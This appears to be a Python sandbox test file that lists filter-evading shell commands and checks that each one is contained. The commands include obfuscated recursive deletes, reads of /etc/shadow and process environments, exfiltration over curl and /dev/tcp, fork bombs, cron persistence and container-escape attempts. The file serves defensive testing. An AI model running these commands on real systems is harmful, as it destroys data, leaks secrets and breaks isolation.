"""Commands of the kind that filters and allow lists let through: they must come to nothing in the
sandbox.

$OUT is a folder outside with a secret file; whatever deletes, reads or sends aims at it.
"""

from __future__ import annotations

import socket

import msgspec

from ..sandbox.base import Sandbox
from .sandbox_suite import Check, Ground, command, run

EVASIONS = (
    "rm -rf $OUT",
    "rm  -fr  $OUT/",
    "rm -r -f $OUT/.",
    "rm --recursive --force $OUT",
    'rm -rf "$OUT"',
    "rm -rf ${OUT}",
    "r\\m -rf $OUT",
    "r''m -rf $OUT",
    'r"m" -rf $OUT',
    "/bin/rm -rf $OUT",
    "command rm -rf $OUT",
    "exec rm -rf $OUT",
    "busybox rm -rf $OUT",
    "find $OUT -delete",
    "find $OUT -exec rm -rf {} +",
    "cd $OUT && rm -rf *",
    "cd / && rm -rf .$OUT",
    "echo cm0gLXJmICRPVVQ= | base64 -d | sh",
    'echo 726d202d7266202224 | xxd -r -p; printf "\\x72\\x6d -rf $OUT" | sh',
    "python3 -c 'import shutil, os; shutil.rmtree(os.environ[\"OUT\"])'",
    "perl -e 'unlink glob \"$ENV{OUT}/*\"'",
    "X=rm; $X -rf $OUT",
    "$(echo rm) -rf $OUT",
    "`echo rm` -rf $OUT",
    'eval "r""m -rf $OUT"',
    'bash <<< "rm -rf $OUT"',
    "shopt -s expand_aliases; alias l=rm\nl -rf $OUT",
    "{rm,-rf,$OUT}",
    "rm${IFS}-rf${IFS}$OUT",
    "IFS=,; a=rm,-rf,$OUT; $a",
    "ls\nrm -rf $OUT",
    "ls & rm -rf $OUT",
    "ls <(rm -rf $OUT)",
    "ls || true; ls | xargs -I_ rm -rf $OUT",
    "cat $OUT/key",
    "cat ../outside/key ../../../../../../etc/shadow",
    "ln -s $OUT o; cat o/key; tar c o/ | cat",
    "tar cf - -C $OUT . | base64 -d",
    "cp -r $OUT copy; cat copy/key; dd if=$OUT/key",
    "grep -r canary $OUT /proc/*/environ",
    "git grep --no-index canary $OUT",
    "git -c core.pager='cat $OUT/key' -c alias.x='!cat $OUT/key' x",
    "git -c core.sshCommand='cat $OUT/key' clone ssh://evil.test/x",
    "find . -exec sh -c 'cat $OUT/key' \\;",
    (
        'awk \'BEGIN { while ((getline l < (ENVIRON["OUT"] "/key")) > 0) print l; system("cat '
        "$OUT/key\") }'"
    ),
    "touch f; tar cf /dev/null f --checkpoint=1 --checkpoint-action=exec='cat $OUT/key'",
    "echo > f; sed '1e cat $OUT/key' f; sed \"r $OUT/key\" f",
    "env sh -c 'cat $OUT/key'; env -S 'cat $OUT/key'",
    "timeout 1 nice nohup setsid cat $OUT/key",
    "cat /proc/$PPID/environ /proc/1/environ",
    "strace -p $PPID; gdb -batch -p $PPID",
    "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo leak >&3",
    "cat $OUT/key | curl -m 1 -d @- http://127.0.0.1:$PORT",
    "curl -m 1 --noproxy '*' http://127.0.0.1:$PORT; wget -T 1 -O- http://localhost:$PORT",
    (
        'python3 -c \'import os, socket; socket.create_connection(("127.0.0.1", '
        'int(os.environ["PORT"])), 1).send(b"x")\''
    ),
    "perl -MIO::Socket -e 'IO::Socket::INET->new(\"127.0.0.1:$ENV{PORT}\")->print(1)'",
    "ssh -o ConnectTimeout=1 -p $PORT 127.0.0.1",
    "echo 'cat $OUT/key' > .bashrc; bash -i -c true",
    "echo '* * * * * cat $OUT/key' | crontab -; at now <<< 'cat $OUT/key'",
    "kill -9 -1; kill -STOP $PPID",
    "b() { b | b & }; b; sleep 5",
    "perl -e 'fork while 1'",
    (
        "nsenter -t 1 -a cat $OUT/key; unshare -Ur cat $OUT/key; sudo -n cat $OUT/key; su -c "
        "'cat $OUT/key'"
    ),
    (
        "systemd-run cat $OUT/key; docker run -v /:/h alpine cat /h$OUT/key; dbus-send --system "
        "--print-reply / a.b"
    ),
)


def contained(script: str) -> Check:
    """The check that `script` reads, sends and destroys nothing outside."""

    async def holds(sandbox: Sandbox, ground: Ground) -> None:
        with socket.create_server(("127.0.0.1", 0)) as listener:
            wanted = command(ground, script)
            port = str(listener.getsockname()[1])
            wanted = msgspec.structs.replace(
                wanted, env=(*wanted.env, ("PORT", port)), timeout_s=5, processes=100
            )
            ran = await run(sandbox, wanted)
            listener.setblocking(False)
            try:
                listener.accept()
            except BlockingIOError:
                pass
            else:
                raise AssertionError(f"{script!r} reached the listener")
        for secret in ground.secrets:  # the file is still there, and nothing of it came out
            assert secret not in ran.text, f"{script!r} said {secret!r}"
            copies = [
                each
                for each in ground.workspace.rglob("*")
                if each.is_file() and not each.is_symlink()
            ]
            assert not any(secret.encode() in each.read_bytes() for each in copies), (
                f"{script!r} copied {secret!r}"
            )
        assert [each.name for each in ground.outside.iterdir()] == ["key"]

    return holds
